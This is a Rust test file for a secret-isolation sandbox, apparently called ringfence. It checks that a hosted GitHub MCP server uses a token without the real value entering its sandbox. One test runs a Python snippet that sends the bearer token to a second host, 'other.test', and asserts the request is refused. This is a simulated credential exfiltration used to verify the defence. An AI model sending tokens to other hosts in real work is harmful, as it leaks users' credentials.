//! Hosted servers use the value of a secret without having it.

use std::fs;
use std::path::PathBuf;
use std::sync::Arc;

use ringfence_testkit::{Downloads, Server, User};
use serde_json::{Value, json};

use super::api::Api;
use super::search::{namespace_of, search};
use crate::network::hosted::{await_connection, evaluate, evaluator_entry};
use crate::network::sessions::network_events;

/// The secrets of servers, each with the variable that its server reads.
const SECRETS: &str = r#"
[secrets.github]
env = "GITHUB_TOKEN"
variable = "GITHUB_PERSONAL_ACCESS_TOKEN"
hosts = ["api.github.com+private"]
"#;

const BOX: &str = r#"{ "allow": ["api.github.com+private", "other.test+private"], "secrets": ["github"] }"#;

fn configuration(entry: &Value) -> String {
    let entry = toml::to_string(&json!({"servers": {"github": entry}})).expect("encode as TOML");
    format!("{SECRETS}{entry}")
}

/// Searches the sandbox of the server with this text in its command line.
pub(super) fn assert_value_is_not_in_the_sandbox(api: &Api, server: &str) {
    let namespace = namespace_of(server).expect("the server runs in a sandbox");
    let placeholder = placeholder_of(server);
    let found = search(&namespace, &[("token", &api.token), ("placeholder", &placeholder)]);
    assert!(found.parts("placeholder").contains(&"memory"), "the search finds what is there: {found:?}");
    assert_eq!(found.parts("token"), Vec::<&str>::new(), "{found:?}");
}

/// Returns the variable of the process in a sandbox with this text in its command line.
fn placeholder_of(server: &str) -> String {
    let namespace = namespace_of(server);
    let variable = ringfence_testkit::process::all().into_iter().find_map(|pid| {
        let link = fs::read_link(format!("/proc/{pid}/ns/pid")).ok()?;
        let environment = fs::read(format!("/proc/{pid}/environ")).ok()?;
        let text = String::from_utf8_lossy(&environment).into_owned();
        let variable =
            text.split('\0').find_map(|field| field.strip_prefix("GITHUB_PERSONAL_ACCESS_TOKEN="))?.to_owned();
        (Some(link.display().to_string()) == namespace).then_some(variable)
    });
    variable.expect("a process has the variable")
}

/// Installs the package of an entry into a cache, in the network of the host.
fn install(entry: &Value, cache: &str) {
    let directory = tempfile::tempdir().expect("create a directory");
    let path = directory.path().join("ringfence.toml");
    let text = toml::to_string(&json!({"servers": {"github": entry}})).expect("encode as TOML");
    fs::write(&path, text).expect("write the configuration");
    let options = ["--config", path.to_str().expect("valid UTF-8")];
    await_connection(&Server::start(&options, &[("RINGFENCE_CACHE_DIR", cache)]), "github");
}

#[test]
fn github_server_from_npm_uses_the_value_without_having_it() {
    const TEST: &str = "secrets::hosted::github_server_from_npm_uses_the_value_without_having_it";
    let Some(downloads) = Downloads::find(TEST) else { return };
    let cache = std::env::var_os("RINGFENCE_CACHE_DIR").map(PathBuf::from);
    let cache = cache.unwrap_or_else(|| std::env::temp_dir().join("ringfence-test-packages")).display().to_string();
    let mut entry = downloads.npm_entry("server-github", &[]);
    install(&entry, &cache);

    let Some(api) = Api::enter(TEST) else { return };
    entry["box"] = serde_json::from_str(BOX).expect("valid JSON");
    let [token, trust] = api.variables();
    let variables = [(token.0, token.1.as_str()), (trust.0, &trust.1), ("RINGFENCE_CACHE_DIR", &cache)];
    let state = Arc::new(User::Root.directory());
    let server = api.network.server_in(User::Root, state, &configuration(&entry), &variables);
    await_connection(&server, "github");
    let response = server.call("github__search_repositories", &json!({"query": "ringfence"}));
    assert!(response["result"]["content"][0]["text"].to_string().contains("4711"), "{response}");
    let requests = api.take_requests();
    let [request] = requests.as_slice() else { panic!("{requests:?}") };
    assert_eq!(request["headers"]["authorization"], format!("Bearer {}", api.token), "{request}");
    assert!(request["headers"]["user-agent"].to_string().contains("modelcontextprotocol"), "{request}");
    assert_value_is_not_in_the_sandbox(&api, "server-github");
}

#[test]
fn hosted_server_of_every_user_uses_the_value_without_having_it() {
    const TEST: &str = "secrets::hosted::hosted_server_of_every_user_uses_the_value_without_having_it";
    let Some(api) = Api::enter(TEST) else { return };
    for user in User::ALL {
        if user.skip_if_unavailable(TEST) {
            continue;
        }
        let mut entry = evaluator_entry(&api.network);
        entry["box"] = serde_json::from_str(BOX).expect("valid JSON");
        let state = Arc::new(user.directory());
        let server = api.server_in(user, Arc::clone(&state), &configuration(&entry));
        await_connection(&server, "github");
        let send = "import os, urllib.request, urllib.error
def send(url):
    fields = {'Authorization': 'Bearer ' + os.environ['GITHUB_PERSONAL_ACCESS_TOKEN']}
    try:
        print(urllib.request.urlopen(urllib.request.Request(url, headers=fields), timeout=20).read().decode())
    except urllib.error.HTTPError as error:
        print(error.code, error.headers['X-Ringfence-Reason'])
send('https://api.github.com/user'); send('https://api.github.com/echo')";
        let text = evaluate(&server, "github", send);
        assert!(text.contains("octocat") && !text.contains(&api.token), "{user:?}: {text}");
        assert_value_is_not_in_the_sandbox(&api, "evaluator.py");
        api.take_requests();
        // The same placeholder to another host that the entry allows.
        assert_eq!(evaluate(&server, "github", "send('http://other.test/open')"), "403 secret-elsewhere\n", "{user:?}");
        assert_eq!(api.take_requests(), Vec::<Value>::new(), "{user:?}");
        let events = network_events(user, &server, "network_refused");
        let [event] = events.as_slice() else { panic!("{user:?}: {events:?}") };
        let fields =
            [&event["outcome"], &event["detail"]["host"], &event["detail"]["secret"], &event["detail"]["server"]];
        assert_eq!(fields, ["secret-elsewhere", "other.test", "github", "github"], "{user:?}: {event}");
        drop(server);
    }
}
